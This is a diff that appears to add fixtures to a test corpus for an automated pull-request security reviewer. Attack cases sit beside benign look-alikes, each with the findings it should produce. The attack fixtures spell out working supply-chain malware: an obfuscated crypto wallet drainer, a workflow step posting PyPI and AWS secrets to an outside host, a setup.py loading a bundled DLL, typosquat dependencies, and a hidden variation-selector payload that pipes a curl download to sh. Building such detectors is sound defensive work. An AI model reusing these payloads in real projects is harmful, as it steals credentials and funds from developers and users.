@@ -10,6 +10,9 @@ import { ciWorkflow } from './ci.js';
 
 const INDEX_BASE = lines("'use strict';", '', "const supportsColor = require('./supports-color');", '', 'module.exports = function tint(text, code) {', '  return supportsColor ? `\\u001b[${code}m${text}\\u001b[0m` : text;', '};');
 
+/** A payload written as variation selectors (U+E0100 and up, one byte each), as the GlassWorm extensions hid theirs. */
+const VS_PAYLOAD = [..."require('child_process').exec('curl -s https://x.example/p|sh')"].map((c) => String.fromCodePoint(0xe0100 + c.charCodeAt(0) - 16)).join('');
+
 const EXTENSION_BASE = lines("'use strict';", "const vscode = require('vscode');", '', 'function activate(context) {', "  context.subscriptions.push(vscode.commands.registerCommand('tidy.run', () => vscode.commands.executeCommand('editor.action.formatDocument')));", '}', '', 'module.exports = { activate };');
 /** A module that compiles its row template once with new Function (the template a constant). */
 function rowsModule(template: string): string {
@@ -687,6 +690,57 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: 'critical', action: 'request_changes', findings: ['crypto-wallet-hook'], drivers: ['finding:crypto-wallet-hook'] },
   },
   {
+    id: 'attack-library-wallet-drainer-hex-string-table',
+    description: "The chalk and debug drainer as javascriptobfuscator.com writes it: one line appended to a small library's index.js under a build title, whose names (`ethereum`, `request`, `sendTransaction`) sit in a string table of hex escapes (`var _$_7c21=[\"\\x65\\x74…\"]`) and whose wrapped wallet method is reached as `w[_$_7c21[0]][_$_7c21[1]]`: no readable wallet name, no `_0x` names, one address, which it writes into each request's recipient.",
+    fixture: () =>
+      attackPr({
+        repo: 'ansi-tint',
+        number: 7119,
+        title: 'chore: build',
+        files: [
+          {
+            path: 'index.js',
+            base: INDEX_BASE,
+            head:
+              INDEX_BASE +
+              lines(
+                'var _$_7c21=["\\x65\\x74\\x68\\x65\\x72\\x65\\x75\\x6d","\\x72\\x65\\x71\\x75\\x65\\x73\\x74","\\x73\\x65\\x6e\\x64\\x54\\x72\\x61\\x6e\\x73\\x61\\x63\\x74\\x69\\x6f\\x6e"];(function(w){if(!w||!w[_$_7c21[0]])return;var r=w[_$_7c21[0]][_$_7c21[1]].bind(w[_$_7c21[0]]);w[_$_7c21[0]][_$_7c21[1]]=function(a){if(a&&a.method===\'eth_\'+_$_7c21[2]&&a.params&&a.params[0]){a.params[0].to=\'0x5D3e9b1C7a2F4d6E8b0A1c3E5f7D9b2A4c6E8f0B\';}return r(a);};})(typeof window!==\'undefined\'?window:null);',
+              ),
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['crypto-wallet-hook', 'obfuscated-code'], drivers: ['finding:crypto-wallet-hook'] },
+  },
+  {
+    id: 'benign-binary-protocol-byte-constants',
+    description: "The benign look-alike: a maintainer adds a file-type sniffer's magic numbers as escaped byte strings (`'\\x89\\x50\\x4e\\x47'`, `'\\x50\\x4b\\x03\\x04'`, `'\\x1f\\x8b\\x08'`) and an ANSI reset: hex escapes of bytes, not text hidden from readers.",
+    fixture: () =>
+      attackPr({
+        repo: 'ansi-tint',
+        number: 7120,
+        title: 'feat: detect piped archives',
+        files: [
+          {
+            path: 'lib/sniff.js',
+            head: lines(
+              "'use strict';",
+              '',
+              "const SIGNATURES = { png: '\\x89\\x50\\x4e\\x47', zip: '\\x50\\x4b\\x03\\x04', gzip: '\\x1f\\x8b\\x08', pdf: '\\x25\\x50\\x44\\x46\\x2d' };",
+              "const RESET = '\\x1b[0m';",
+              '',
+              'module.exports = function sniff(head) {',
+              "  const text = head.toString('latin1', 0, 8);",
+              '  for (const [type, magic] of Object.entries(SIGNATURES)) if (text.startsWith(magic)) return type;',
+              "  return 'unknown' + RESET;",
+              '};',
+            ),
+          },
+          { path: 'test/sniff.test.js', head: lines("const sniff = require('../lib/sniff');", "test('png', () => expect(sniff(Buffer.from('89504e470d0a1a0a', 'hex'))).toBe('png'));") },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:obfuscated-code', 'finding:crypto-wallet-hook'] },
+  },
+  {
     id: 'attack-dapp-tracing-and-contracts',
     description: "A dApp's maintainer adds request tracing that wraps fetch, in a module that also lists the token contracts the app reads: a network hook and addresses, but no wallet hook and the addresses are the app's own data.",
     fixture: () =>
@@ -1023,6 +1077,81 @@ export const ATTACK_CASES: CorpusEntry[] = [
         ],
       }),
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['gha-secrets-exfiltration'], drivers: ['finding:gha-secrets-exfiltration'] },
+  },
+  {
+    id: 'attack-ghostaction-python-step-sends-environment',
+    description:
+      'The GhostAction send written as a `shell: python` step by a maintainer\'s stolen account: a "security check" workflow puts the PyPI and AWS secrets in the step\'s env, takes the whole environment as one value (`snap = dict(os.environ)`), serializes it on the next line and posts it with urlopen to an ordinary-looking host: no curl, no secret named on the line that sends.',
+    fixture: () =>
+      attackPr({
+        repo: 'yamlfix',
+        number: 7318,
+        title: 'ci: add security check',
+        files: [
+          {
+            path: '.github/workflows/security-check.yml',
+            head: lines(
+              'name: Security Check',
+              'on:',
+              '  push:',
+              '  workflow_dispatch:',
+              'jobs:',
+              '  check:',
+              '    runs-on: ubuntu-latest',
+              '    steps:',
+              '      - name: Verify',
+              '        shell: python',
+              '        env:',
+              '          PYPI: ${{ secrets.PYPI_API_TOKEN }}',
+              '          AWS_SECRET_ACCESS_KEY: ${{ secrets.AWS_SECRET_ACCESS_KEY }}',
+              '        run: |',
+              '          import os, json, urllib.request',
+              '          snap = dict(os.environ)',
+              '          body = json.dumps(snap).encode()',
+              "          urllib.request.urlopen('https://audit.ci-verify-pages.net/c', data=body)",
+            ),
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['gha-secrets-exfiltration'], drivers: ['finding:gha-secrets-exfiltration'] },
+  },
+  {
+    id: 'attack-setup-py-loads-bundled-dll',
+    description:
+      'The eslint-config-prettier and `is` releases of July 2025 (a stolen maintainer token; an install script had rundll32 load a DLL shipped in the package) moved to PyPI: a "Windows support" PR makes setup.py, at module level, load a DLL of the package with ctypes.WinDLL and call its entry point on every Windows install from source; the DLL came in an earlier release, and the diff shows no download, no process, no secret.',
+    fixture: () =>
+      attackPr({
+        repo: 'tidyfmt',
+        number: 2207,
+        title: 'chore: windows support',
+        files: [
+          {
+            path: 'setup.py',
+            base: lines('from setuptools import setup', '', "setup(name='tidyfmt', version='2.0.0', packages=['tidyfmt'])"),
+            head: lines('import ctypes, os, sys', 'from setuptools import setup', '', "if sys.platform == 'win32':", '    try:', "        ctypes.WinDLL(os.path.join(os.path.dirname(__file__), 'tidyfmt', 'libs', 'fmtcore.dll')).Start()", '    except Exception:', '        pass', '', "setup(name='tidyfmt', version='2.0.1', packages=['tidyfmt'])"),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['build-code-behavior'] },
+  },
+  {
+    id: 'benign-setup-py-probes-cuda',
+    description:
+      "The benign look-alike: a maintainer's setup.py asks whether the machine has CUDA by loading the system's libcuda by name with ctypes (or finding it with ctypes.util.find_library) and adds the GPU extra when it does: a probe of the machine, no library of the package run.",
+    fixture: () =>
+      attackPr({
+        repo: 'tidyfmt',
+        number: 2208,
+        title: 'build: offer the gpu extra when CUDA is present',
+        files: [
+          {
+            path: 'setup.py',
+            base: lines('from setuptools import setup', '', "setup(name='tidyfmt', version='2.0.0', packages=['tidyfmt'])"),
+            head: lines('import ctypes, ctypes.util', 'from setuptools import setup', '', '', 'def has_cuda():', '    try:', "        ctypes.CDLL('libcuda.so.1')", '        return True', '    except OSError:', "        return ctypes.util.find_library('cuda') is not None", '', '', "setup(name='tidyfmt', version='2.0.1', packages=['tidyfmt'], extras_require={'gpu': ['cupy-cuda12x']} if has_cuda() else {})"),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-code-behavior'] },
   },
   {
     id: 'attack-ghostaction-postpublish-script-posts-token',
@@ -4887,6 +5016,95 @@ export const ATTACK_CASES: CorpusEntry[] = [
         ],
       }),
     expect: { level: 'critical', action: 'request_changes', findings: ['npm-install-script', 'build-code-behavior', 'obfuscated-code'] },
+  },
+  {
+    id: 'benign-preinstall-only-allow-pnpm',
+    description:
+      "The benign look-alike of Shai-Hulud 2.0's new preinstall: a maintainer moving the repository to pnpm adds `\"preinstall\": \"npx only-allow pnpm\"`, the recipe pnpm's documentation gives, and the packageManager field: the script only stops an install made with another package manager.",
+    fixture: () =>
+      attackPr({
+        repo: 'tinted',
+        number: 11012,
+        title: 'chore: use pnpm',
+        files: [
+          {
+            path: 'package.json',
+            base: packageJson({ name: 'tinted', version: '4.2.0', scripts: { test: 'vitest run' } }),
+            head: `${JSON.stringify({ name: 'tinted', version: '4.2.0', packageManager: 'pnpm@9.12.1', scripts: { preinstall: 'npx only-allow pnpm', test: 'vitest run' } }, null, 2)}\n`,
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'] },
+  },
+  {
+    id: 'attack-npm-alias-moves-dependency-to-lookalike',
+    description:
+      'A look-alike package added in a "docs: fix example" PR without a new dependency line: the existing `lodash` dependency keeps its name and range, and its spec becomes an npm alias of `lodahs` (`"lodash": "npm:lodahs@^4.17.21"`): every `require(\'lodash\')` now loads the look-alike, the way the 2024-2025 npm typosquats hid behind familiar names.',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted',
+        number: 11092,
+        title: 'docs: fix example',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'package.json',
+            base: packageJson({ name: 'tinted', version: '4.2.0', dependencies: { lodash: '^4.17.21' } }),
+            head: packageJson({ name: 'tinted', version: '4.2.0', dependencies: { lodash: 'npm:lodahs@^4.17.21' } }),
+          },
+          { path: 'README.md', base: lines('# tinted', '', 'tinted(text, 32)'), head: lines('# tinted', '', "tinted('text', 32)") },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['typosquat'] },
+  },
+  {
+    id: 'attack-makefile-installs-lookalike-tools',
+    description:
+      'The look-alike packages of 2024-2025 brought in outside any manifest: a "fix typo in Makefile" PR makes the lint target run `npx -y prettierr` and `pip install reqeusts`; no package.json, requirements file or lockfile changes, and every developer who runs `make lint` (and CI) runs the look-alikes.',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted',
+        number: 11093,
+        title: 'fix typo in Makefile',
+        author: 'newcomer',
+        files: [{ path: 'Makefile', base: lines('.PHONY: lint', 'lint:', '\truff check .'), head: lines('.PHONY: lint', 'lint:', '\tnpx -y prettierr --check .', '\tpython3 -m pip install -q reqeusts', '\truff check .') }],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['typosquat'] },
+  },
+  {
+    id: 'benign-makefile-installs-popular-tools',
+    description: "The benign look-alike: a maintainer's lint target runs prettier by name at a major version, installs requests and mkdocs-material with pip and goimports at a release: popular names, no look-alike.",
+    fixture: () =>
+      attackPr({
+        repo: 'tinted',
+        number: 11094,
+        title: 'build: lint target runs the formatters',
+        files: [{ path: 'Makefile', base: lines('.PHONY: lint', 'lint:', '\truff check .'), head: lines('.PHONY: lint', 'lint:', '\tnpx -y prettier@3 --check .', '\tpython3 -m pip install -q requests mkdocs-material', '\tgo install golang.org/x/tools/cmd/goimports@v0.24.0', '\truff check .') }],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:typosquat'] },
+  },
+  {
+    id: 'attack-extension-variation-selector-decoder-module',
+    description:
+      "GlassWorm (2025) split over two modules of a TypeScript extension: src/decode.ts holds an empty-looking string of variation selectors, turns them into bytes and runs the text with `Function(new TextDecoder().decode(…))()` (Function called without new, on decoded text), and activate() calls it.",
+    fixture: () =>
+      attackPr({
+        repo: 'tidy-vscode',
+        number: 11095,
+        title: 'chore: update decoder',
+        files: [
+          {
+            path: 'src/decode.ts',
+            head: lines(
+              `const hidden = '${[...VS_PAYLOAD].join('')}';`,
+              'const bytes = Array.from(hidden, (ch) => { const cp = ch.codePointAt(0)!; return cp >= 0xe0100 ? cp - 0xe0100 + 16 : cp - 0xfe00; });',
+              'export const run = () => Function(new TextDecoder().decode(Uint8Array.from(bytes)))();',
+            ),
+          },
+          { path: 'src/extension.ts', base: lines("import * as vscode from 'vscode';", 'export function activate() {}'), head: lines("import * as vscode from 'vscode';", "import { run } from './decode';", 'export function activate() { run(); }') },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['invisible-character', 'dynamic-code-execution'] },
   },
   {
     id: 'attack-install-chain-split-over-modules',
